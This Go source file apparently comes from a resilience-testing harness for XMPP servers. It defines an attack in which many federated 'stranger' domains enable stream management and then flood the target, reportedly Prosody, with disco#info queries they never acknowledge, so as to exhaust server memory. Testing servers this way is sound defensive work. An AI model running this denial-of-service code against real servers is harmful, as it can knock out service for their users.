// SPDX-License-Identifier: Apache-2.0

package hostile

import (
	"context"
	"fmt"
	"strings"
	"sync"
	"time"
)

// Unacknowledged has strangers ask the server for what takes much to answer, take every answer, and never acknowledge one
// (XEP-0198).
func Unacknowledged(strangers int) Attack {
	return Attack{
		Name: fmt.Sprintf("%d strangers that acknowledge nothing", strangers), Limit: time.Minute,
		Do: func(ctx context.Context, target Target) (string, error) {
			var asking sync.WaitGroup
			for i := range strangers {
				domain := fmt.Sprintf("unacknowledged%d.example", i)
				s, err := federate(ctx, target, domain, target.Domain, target.Issue(domain))
				if err != nil {
					return "", err
				}
				defer func() { _ = s.Close() }()
				if err := s.exchange("<enable xmlns='urn:xmpp:sm:3'/>", "<enabled"); err != nil {
					return "", err
				}
				asking.Go(func() { s.ask(ctx, domain, target.Domain) })
			}
			asking.Wait()
			return "", nil
		},
	}
}

// ask sends as many questions as Prosody keeps answers until they are acknowledged, and reads until all are answered, the stream
// ends or ctx is done.
func (s *stream) ask(ctx context.Context, from, to string) {
	const questions = 500
	stop := context.AfterFunc(ctx, func() { _ = s.Close() })
	defer stop()
	question, last := discoInfo("q", "a@"+from, to), discoInfo("last", "a@"+from, to)
	go func() { _ = s.send("%s", strings.Repeat(question, questions)+last) }()
	for {
		answer, err := s.expectWithin(time.Minute, "</iq>")
		if err != nil || strings.Contains(answer, "'last'") {
			return
		}
	}
}

// discoInfo is a question with a long answer (XEP-0030).
func discoInfo(id, from, to string) string {
	return fmt.Sprintf("<iq type='get' id='%s' from='%s' to='%s'><query xmlns='http://jabber.org/protocol/disco#info'/></iq>", id, from, to)
}
